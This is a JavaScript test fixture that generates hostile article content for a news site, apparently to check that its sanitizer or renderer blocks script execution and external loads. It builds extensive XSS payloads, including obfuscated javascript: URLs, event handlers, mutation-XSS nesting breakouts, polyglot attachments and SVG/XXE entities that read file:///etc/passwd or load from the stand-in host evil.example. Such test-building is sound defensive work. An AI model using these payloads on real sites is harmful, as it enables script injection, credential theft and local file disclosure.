// Hostile content, made by rule: what a contributor might hand in to run a script in a reader's browser, send a
// reader elsewhere, or have a reader's browser ask another host for something.
//
// Each vector is one article, with the files that it brings along. A script that runs calls `pwned(1)`, which the
// test gives to every page; what loads, loads from EVIL, a host that nothing of the site has any business with.

/** The host that nobody may be led to or ask for anything without a click. */
export const EVIL = "evil.example";

const RUN = "pwned(1)";
const URL = `https://${EVIL}/x`;

/** An article with these lines of front matter and this text. */
const article = (lines, body) => `---\ndate: 2024-01-18\n${lines.includes("title:") ? "" : "title: 题\n"}${lines}---\n${body}\n`;
const quoted = (text) => JSON.stringify(text);

/** Ways to write an address that runs. */
const schemes = () => {
  const js = "javascript";
  const spellings = [
    js, "JaVaScRiPt", "java\tscript", "java\nscript", "java&Tab;script", "java&NewLine;script", "java&#x0A;script", "java&#00000013;script",
    "\u0001javascript", "&#1;javascript", " javascript", "&#32;javascript", "\u00a0javascript", "\u200bjavascript", "\ufeffjavascript",
    "&#106;avascript", "&#x6a&#x61vascript", "java\\script", "java%0Ascript", "%6aavascript", "\\u006aavascript", "javascript\u200b",
    "java\u00adscript", "ja\u0000vascript", "livescript", "vbscript", "VBScript", "mocha", "feed:javascript", "view-source:javascript", "jar:javascript",
  ];
  const colons = [":", "&colon;", "&#58;", "&#x3A;", "：", "\u0000:", "\t:"];
  const plain = spellings.map((s) => `${s}:${RUN}`);
  const others = colons.slice(1).map((c) => `${js}${c}${RUN}`);
  const page = `<script>${RUN}</script>`;
  const data = [
    `data:text/html,${page}`, `data:text/html;base64,${btoa(page)}`, `DATA:text/html,${page}`, "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'/>",
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`,
    `data:,${page}`, `data:text/xml,${page}`, "blob:null/1", "file:///etc/passwd", "filesystem:x", `javascript://%0a${RUN}`, `javascript:/*${URL}*/${RUN}`, `//${EVIL}/%0d%0aX:y`,
    `\\\\${EVIL}\\x`, `/\\${EVIL}/x`, `https:${EVIL}`, `https://news.example.cn@${EVIL}/x`,
  ];
  return [...plain, ...others, ...data];
};

/** Where an address may stand in a text. A picture of another host may be shown, if a contributor says so openly. */
const isPicture = (text) => /!\[|<img/.test(text);
const sinks = [
  (to) => `[字](${to})`,
  (to) => `[字](<${to}> "题")`,
  (to) => `[字][甲]\n\n[甲]: <${to}>`,
  (to) => `<${to}>`,
  (to) => `![字](${to})`,
  (to) => `![字](<${to}>)`,
  (to) => `[![字](${to})](${to})`,
  (to) => `<a href="${to.replaceAll('"', "&quot;")}">字</a>`,
  (to) => `<a href='${to.replaceAll("'", "&#39;")}' HREF="${to.replaceAll('"', "&quot;")}">字</a>`,
  (to) => `<img src="${to.replaceAll('"', "&quot;")}" alt="字">`,
];

const addresses = function* () {
  const all = schemes();
  // Every way to write one in two places, and in all places over the whole list.
  for (const [i, to] of all.entries()) {
    for (const sink of [sinks[i % sinks.length], sinks[(i * 3 + 5) % sinks.length], sinks[(i * 7 + 8) % sinks.length]]) {
      const text = sink(to);
      if (!(isPicture(text) && to.startsWith("https://"))) yield article("", text);
    }
  }
};

/** Elements of HTML, SVG and MathML with everything that might run or load. */
const elements = function* () {
  const names = (
    "a abbr acronym address animate applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas " +
    "center col command content custom-x datalist details dialog div dl embed fieldset font form frame frameset h1 head header hr html i iframe " +
    "image img input isindex keygen label legend li link listing main map marquee math menu meta meter nextid nobr noembed noframes noscript " +
    "object option output p param picture plaintext portal pre progress q rtc script search section select set slot source spacer span strike style svg " +
    "table tbody td template textarea tfoot th thead time title tr track tt u ul use var video wbr xml xmp foreignobject mtext mi annotation-xml maction desc"
  ).split(" ");
  const events = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onpageshow", "onanimationstart", "onbegin", "onscroll", "onpointerenter", "onbeforetoggle"];
  const running = events.map((event) => `${event}="${RUN}"`).join(" ");
  const loading = ["src", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "srcset", "lowsrc", "dynsrc", "codebase", "code", "ping", "manifest", "cite", "longdesc", "profile", "icon"];
  const loads = (to) => loading.map((name) => `${name}="${to}"`).join(" ");
  const rest = 'autofocus tabindex=0 contenteditable open controls autoplay style="animation:x 1s;background:url(https://evil.example/s);position:fixed" http-equiv=refresh content="0;url=https://evil.example/m" rel=stylesheet type=text/html allow=* is=x slot=y name=z';
  for (const [i, name] of names.entries()) {
    const tag = `<${name} ${running} ${rest} ${loads(i % 2 && name !== "img" ? URL : `javascript:${RUN}`)} srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;">字</${name}>`;
    yield article("", tag);
    yield article("", `字${tag.replaceAll(" ", i % 3 ? "/" : "\t")}字`);
  }
};

/** Elements that browsers read by other rules, one in another, with a way out: cleaners and browsers differ there. */
const nests = function* () {
  const outer = ["svg", "math", "math><mtext", "math><annotation-xml encoding=text/html", "svg><foreignObject", "svg><desc", "svg><title", "noscript", "template", "select", "table", "table><tr><td", "textarea", "xmp", "plaintext", "style", "iframe", "noembed", "noframes", "title", "form", "button", "p", "a href=x", "details", "ruby><rp", "li", "h2"];
  const bomb = `<img src=x onerror=${RUN}>`;
  const out = [
    (open, close) => `<${open}><!--${close}${bomb}-->${bomb}`,
    (open, close) => `<${open}><![CDATA[${close}${bomb}]]>${bomb}`,
    (open, close) => `<${open}><p title="${close}${bomb}">`,
    (open, close) => `<${open}><style>${close}<!--</style>${bomb}-->`,
    (open) => `<${open}><mglyph><style><!--</style><p title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    (open, close) => `<b><${open}><b>${close}<a title='</${open}>${bomb}'>`,
    (open) => `<form><${open}></form><form><mglyph><style></math>${bomb}`,
  ];
  for (const open of outer) {
    const close = open.split("><").map((tag) => `</${tag.split(" ")[0]}>`).reverse().join("");
    for (const [i, way] of out.entries()) yield article("", (i % 2 ? "字" : "") + way(open, close));
  }
};

/** Texts that break out of wherever they are put. */
const texts = [
  `"><script>${RUN}</script>`, `'><img src=x onerror=${RUN}>`, `</script><script>${RUN}</script>`, `</title><svg onload=${RUN}>`, `<!--<script>${RUN}</script>`, `]]><x onload=${RUN}>`,
  `{{ ${RUN} }}`, `{% include "/etc/passwd" %}`, `" autofocus onfocus="${RUN}`, `javascript:${RUN}`, `\u2028${RUN}\u2029`, `</style><script>${RUN}</script>`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}`, `</main></body><script src=${URL}></script>`, `\uf8e70\uf8e7<b onmouseover=${RUN}>`, `\ufdd0"onload=${RUN} x="`,
];

/** Keys of front matter that a page shows, or reads as an address. */
const fields = [
  (t) => `title: ${t}\n`, (t) => `kicker: ${t}\n`, (t) => `subtitle: ${t}\n`, (t) => `byline: ${t}\n`, (t) => `byline: [{ role: ${t}, name: ${t} }]\n`,
  (t) => `dateline: { agency: ${t}, place: ${t} }\n`, (t) => `source: ${t}\n`, (t) => `editor: ${t}\n`, (t) => `summary: ${t}\n`, (t) => `tags: [${t}]\n`,
  (t) => `image: { src: a.png, alt: ${t}, caption: ${t}, credit: ${t} }\n`, (t) => `print: { issue: 2024-01-18, page: A02, section: ${t} }\n`,
  (t) => `review: { first: ${t}, second: ${t}, final: ${t} }\n`, (t) => `corrections: [{ date: 2024-01-19, text: ${t} }]\n`, (t) => `related: [${t}]\n`,
  (t) => `aliases: [${t}]\n`, (t) => `slug: ${t}\n`, (t) => `image: { src: ${t}, alt: 字 }\n`, (t) => `extra: { a: ${t}, ${t}: 1 }\n`, (t) => `original: { title: ${t}, author: ${t}, url: ${t} }\n`,
];

const fronts = function* () {
  for (const [i, field] of fields.entries()) {
    for (const [k, text] of texts.entries()) {
      const lines = field(quoted(text));
      if (k % 2 === 0 || i < 3) yield article(lines, "字。");
    }
    yield article(field(quoted(`/x/${texts[i % texts.length]}.html`)), "字。");
    yield article(field(quoted(`https://news.example.cn/"onload=${RUN}`)), "字。");
  }
};

/** Places of Markdown that take a text. */
const markdown = function* () {
  const places = [
    (t) => t, (t) => `# ${t}`, (t) => `## 字 {#${t}}`, (t) => `\`${t}\``, (t) => `\`\`\`${t}\n${t}\n\`\`\``, (t) => `| ${t} | b |\n| - | - |\n| ${t} | c |`, (t) => `字[^${t}]\n\n[^${t}]: ${t}`,
    (t) => `![${t}](a.png "${t}")`, (t) => `[字](https://news.example.cn/ "${t}")`, (t) => `> [!NOTE]\n> ${t}`, (t) => `- [x] ${t}`, (t) => `![${t}](series:daily/calls?last=90d)\n\n![字](series:daily/calls?last=90d)`,
    (t) => `![字](series:${t}/calls?last=${t})`, (t) => `<p title="${t}">${t}</p>`, (t) => `<${t}>`, (t) => `</${t}>字<b ${t}>`, (t) => `    ${t}`, (t) => `[${t}]: ${t} "${t}"\n\n[${t}]`, (t) => `**${t}** ~~${t}~~ &${t};`,
  ];
  for (const place of places) {
    for (const [i, text] of texts.entries()) if ((i + places.indexOf(place)) % 2) yield article("", place(text));
  }
};

/** Files that an article brings along: names by which browsers or hosts take them for a page or a program. */
const attachments = function* () {
  const html = `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${RUN}"><script>${RUN}</script></body></html>`;
  const endings = (
    "html htm xhtml xht xml xsl xslt xsd wsdl dtd rng resx ashx asa asax ascx asmx asp aspx cer html5 htm5 shtm shtml stm xhtm plist js mjs cjs css json jsonld svg svgz mml mathml rdf rss atom xul xbl hta htc htt mht mhtml " +
    "swf jar class php php3 php5 phtml phar pht inc cgi pl py rb sh jsp jspx jspf cfm config conf ini htaccess htpasswd wasm vtt webmanifest appcache txt csv tsv md markdown ics vcf pdf zip docx png jpg gif webp avif bmp mp3 mp4 " +
    "ogg epub geojson kml gpx xlf xliff tmx vxml xspf wml manifest bin exe"
  ).split(" ");
  for (const ending of endings) yield [`a.${ending}`, html];
  const names = ["noext", "web.config", ".htaccess", "a.php.jpg", "a.html.png", "a.html.", "a.html ", "a.HTML", "a.xhtml~", "a.htm\u200b", "a.svg.", "a.html%00.png", "a.html;.png", "a.png.html.txt", "a b.html", "index.html", "a.tar.html", "crossdomain.xml", "a.html‮gnp.png", "Robots.TXT", "a.shtml.csv"];
  for (const name of names) yield [name, html];
  yield ["gif.gif", `GIF89a/*${html}*/=1;${RUN}`];
  yield ["pdf.pdf", `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${RUN};app.alert(1))>>>>endobj\n${html}`];
  yield ["csv.csv", `a,b\n=HYPERLINK("${URL}"),${html}\n`];
  yield ["json.json", `{"a":"${html.replaceAll('"', "'")}"}`];
  yield [`"onload="${RUN}.png`, html];
  yield [`<img src=x onerror=${RUN}>.txt`, html];
  yield ["bom.txt", `\ufeff${html}`];
  yield ["utf7.txt", "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-"];
};

/** Pictures that are programs: every way out of a drawing. */
const drawings = function* () {
  const svg = (attributes, inner) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" ${attributes}>${inner}</svg>`;
  const link = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
  const html = 'xmlns:h="http://www.w3.org/1999/xhtml"';
  const js = `javascript:${RUN}`;
  const inside = (inner) => [svg(html, inner), svg(`${html} ${link}`, `<g><switch>${inner}</switch></g>`), svg(html, `<metadata>${inner}</metadata>`), svg(html, `<title>${inner}</title>`)];
  for (const name of ["script", "iframe", "frame", "object", "embed", "img", "video", "audio", "source", "body", "form", "input", "link", "meta", "base", "style", "table", "applet", "button", "marquee", "portal", "picture"]) {
    const attributes = `src="${URL}" href="${URL}" data="${URL}" action="${js}" formaction="${js}" background="${URL}" srcset="${URL} 1x" poster="${URL}" http-equiv="refresh" content="0;url=${URL}" rel="stylesheet" onerror="${RUN}" type="text/javascript"`;
    yield* inside(`<h:${name} ${attributes}>${RUN}</h:${name}>`);
    yield svg("", `<${name} xmlns="http://www.w3.org/1999/xhtml" ${attributes}>${RUN}</${name}>`);
  }
  yield* ["onload", "onbegin", "onclick", "onfocusin", "onmouseover", "onend", "onrepeat", "onunload", "ONLOAD", "onactivate", "on"].map((event) => svg(`${event}="${RUN}"`, `<set attributeName="x" ${event}="${RUN}"/><rect width="9" height="9" ${event}="${RUN}"/>`));
  yield* schemes().map((to) => svg(link, `<a xlink:href="${to.replaceAll("&", "&#38;").replaceAll("<", "&lt;").replaceAll('"', "&quot;")}" href="${to.replaceAll(/[<"&]/g, "")}"><rect width="9" height="9"/></a>`));
  const values = [
    `<a><animate attributeName="href" values="${js}"/><rect width="9" height="9"/></a>`, `<a><set attributeName="href" to="${js}"/></a>`, `<a><set attributeName="xlink:href" to="${js}"/></a>`, `<set attributeName="onmouseover" to="${RUN}"/>`,
    `<use href="${URL}#a"/>`, `<use xlink:href="data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/&gt;#a"/>`, `<image href="${URL}"/>`, `<image href="data:image/svg+xml,&lt;svg/&gt;"/>`, `<feImage href="${URL}"/>`,
    `<style>@import "${URL}";</style>`, `<style>rect{fill:url(${URL})}</style>`, `<style>@im/**/port "${URL}";@font-face{src:url("${URL}")}</style>`, `<style>rect{fill:\\75rl(${URL})}</style>`, `<style><![CDATA[*{background:image-set("${URL}" 1x)}]]></style>`,
    `<rect fill="url(${URL}#a)" style="fill:url('${URL}')" filter="url(${URL}#f)" mask="url(//${EVIL}/m)" cursor="url(${URL}),auto"/>`, `<script>${RUN}</script>`, `<script href="${URL}"/>`, `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`, `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject>`, `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext href="${js}">x</m:mtext></m:math>`,
    `<discard href="#a"/><listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#a"/>`, `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`, `<mpath xlink:href="${URL}" ${link}/>`, `<linearGradient href="${URL}#g"/>`, `<animateMotion path="M0" onbegin="${RUN}"/>`,
    `<g xml:base="https://${EVIL}/"><use href="#a"/></g>`, `<audio xmlns="http://www.w3.org/1999/xhtml" src="${URL}"/>`, `<tref xlink:href="${URL}" ${link}/>`, `<cursor href="${URL}"/>`, `<font-face-uri href="${URL}"/>`, `<color-profile href="${URL}"/>`,
  ];
  yield* values.map((inner) => svg(`${link} id="a"`, inner));
  yield `<?xml-stylesheet href="${URL}" type="text/css"?>${svg("", "")}`;
  yield `<?xml-stylesheet href="#x" type="text/xsl"?>${svg("", "")}`;
  yield `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]>${svg("", "&x;")}`;
  yield `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("", "<text>&x;</text>")}`;
  yield `<!DOCTYPE svg PUBLIC "x" "${URL}.dtd">${svg("", "")}`;
  yield `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg("", "")}`;
  yield `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${RUN}"/></html>`;
  yield `<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></s:svg>`;
  yield `<x:svg xmlns:x="http://www.w3.org/1999/xhtml" onload="${RUN}"><x:script>${RUN}</x:script></x:svg>`;
  yield `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`;
  yield Buffer.from(`\ufeff${svg("", `<script>${RUN}</script>`)}`, "utf16le");
  yield `<?xml version="1.0" encoding="utf-7"?>${svg("", `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`)}`;
};

/** Every vector: the text of its article, and the files beside it by name. */
export const vectors = function* () {
  for (const source of [addresses, elements, nests, fronts, markdown]) {
    for (const text of source()) yield { text, files: [] };
  }
  for (const [name, body] of attachments()) {
    const to = encodeURI(name).replaceAll("(", "%28").replaceAll(")", "%29");
    yield { text: article("", `[文件](<${to}>)`), files: [[name, body]] };
  }
  for (const body of drawings()) yield { text: article("", "![图](a.svg) [图](a.svg)"), files: [["a.svg", body]] };
};
